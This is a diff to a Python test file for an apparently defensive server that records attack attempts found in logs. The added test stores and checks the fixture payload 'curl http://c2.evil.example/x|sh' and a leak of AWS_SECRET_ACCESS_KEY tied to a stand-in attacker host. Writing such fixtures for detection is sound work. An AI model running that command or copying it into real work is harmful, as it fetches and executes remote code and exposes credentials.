@@ -16,7 +16,7 @@ sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 from server_common import (Server, attempt, check, check_eq, cli, db_sql, envelope, finding, make_token,  # noqa: E402
                            make_user, mid, new_db, not_ok, ok, process, report)
 
-SCHEMA = 9  # the number of migrations in programs/server/store_schema.c
+SCHEMA = 10  # the number of migrations in programs/server/store_schema.c
 SHARED = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
 
 
@@ -219,6 +219,18 @@ def run(kind):
     cb = {x["host"]: x for x in s.get_json("/api/v1/callbacks", reader)["items"]}
     check(t + "callback-counts", cb.get("evil.example") == {"host": "evil.example", "devices": 1, "attempts": 2},
           cb)
+    # what the agent decoded is kept: a Base64 URL's command (hostile text
+    # stored as sent), a non-UTF-8 one as payload_b64, the leaked lookups
+    a15 = dict(attempt(15, host="c2.evil.example"), exfil=["env:AWS_SECRET_ACCESS_KEY", "hostName"],
+               payload="curl http://c2.evil.example/x|sh <script>")
+    a16 = dict(attempt(16, host="c2.evil.example"), payload_b64="/w==")
+    el3 = envelope(mid(1), "web1", command="logs", created="2026-11-29T00:00:00Z")
+    s.submit(agent, report(el3, [a15, a16], summary=False))
+    at = {a["line"]: a for a in s.get_json("/api/v1/attempts?host=c2.evil.example", reader)["items"]}
+    check_eq(t + "attempt-payload", at.get(15, {}).get("payload"), "curl http://c2.evil.example/x|sh <script>")
+    check_eq(t + "attempt-exfil", at.get(15, {}).get("exfil"), ["env:AWS_SECRET_ACCESS_KEY", "hostName"])
+    check_eq(t + "attempt-payload-b64", (at.get(16, {}).get("payload"), at.get(16, {}).get("payload_b64")),
+             (None, "/w=="))
 
     # --- known ids
     ids = [e1["report_id"], e2["report_id"], "00000000-0000-4000-8000-000000000000"]
